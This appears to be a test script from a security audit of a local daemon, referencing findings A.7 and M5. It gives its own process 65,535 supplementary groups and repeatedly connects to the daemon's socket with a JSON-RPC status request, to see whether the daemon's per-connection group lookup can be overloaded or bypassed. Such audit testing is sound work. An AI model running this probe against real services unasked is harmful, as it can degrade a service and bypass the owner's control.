"""Connects with 65,535 supplementary groups, which the daemon would search at each accept. Run it as
root, or with `unshare --user --map-auto --map-root-user` (package uidmap).

Findings: A.7, M5

groups.py SOCKET
"""

import os
import sys

import attack

if "result" not in attack.Connection(sys.argv[1]).reply("system.status"):
    attack.unprepared("a process with few groups is not served")
try:
    os.setgroups(list(range(1, 65_536)))
except OSError as error:
    attack.impossible(f"so many groups cannot be had: {error}")
for _ in range(50):
    connection = attack.Connection(sys.argv[1])
    try:
        connection.send_line(b'{"jsonrpc":"2.0","id":1,"method":"system.status"}')
    except OSError:
        pass
    answer = connection.receive()
    if answer is None or "result" in answer:
        attack.succeeded(f"a process with 65,535 groups gets {answer}")
    connection.close()
attack.refused(answer["error"]["message"])
